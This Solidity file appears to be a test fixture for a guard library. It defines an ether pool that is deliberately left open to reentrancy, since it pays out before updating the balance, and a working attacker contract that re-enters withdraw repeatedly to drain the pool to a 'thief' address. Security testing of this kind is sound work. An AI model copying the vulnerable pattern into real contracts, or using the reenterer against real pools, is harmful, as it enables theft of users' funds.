// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.20;

import { ICordonGuard } from "../src/ICordonGuard.sol";
import { Guardable } from "./Guardable.sol";

/// @title A pool of ether that pays out before it writes down that it did.
/// @notice Deliberately the oldest mistake there is: whoever is paid may call again, and is paid again, from the same balance.
contract EtherPool is Guardable {
    error InsufficientBalance(address account, uint256 balance, uint256 needed);
    error EtherRefused();

    event Deposited(address indexed account, uint256 amount);
    event Withdrawn(address indexed account, uint256 amount);

    mapping(address => uint256) public balanceOf;
    uint256 public totalBalance;

    constructor(address owner_, uint24 scope_) Guardable(owner_, scope_) { }

    function deposit() external payable guarded(scope, ICordonGuard.Action.Deposit, address(0), msg.value, msg.sender) {
        balanceOf[msg.sender] += msg.value;
        totalBalance += msg.value;
        emit Deposited(msg.sender, msg.value);
    }

    function withdraw(uint256 amount)
        external
        guarded(scope, ICordonGuard.Action.Withdraw, address(0), amount, msg.sender)
    {
        uint256 balance = balanceOf[msg.sender];
        if (balance < amount) revert InsufficientBalance(msg.sender, balance, amount);
        (bool done,) = msg.sender.call{ value: amount }("");
        if (!done) revert EtherRefused();
        // From the balance that was read before the call: that is the mistake.
        balanceOf[msg.sender] = balance - amount;
        totalBalance -= amount;
        emit Withdrawn(msg.sender, amount);
    }
}

/// @title Calls the pool again whenever the pool pays.
contract PoolReenterer {
    error NotThief(address caller);
    error EtherStays();

    address private immutable thief = msg.sender;
    EtherPool private pool;
    uint256 private stake;
    uint256 private left;

    /// Puts `msg.value` in and takes it out until the pool has less than that, or until `rounds` are over.
    function drain(EtherPool pool_, uint256 rounds) external payable {
        if (msg.sender != thief) revert NotThief(msg.sender);
        (pool, stake) = (pool_, msg.value);
        pool_.deposit{ value: msg.value }();
        left = rounds;
        pool_.withdraw(msg.value);
        (bool done,) = thief.call{ value: address(this).balance }("");
        if (!done) revert EtherStays();
    }

    receive() external payable {
        if (msg.sender != address(pool) || left == 0 || address(pool).balance < stake) return;
        left -= 1;
        pool.withdraw(stake);
    }
}
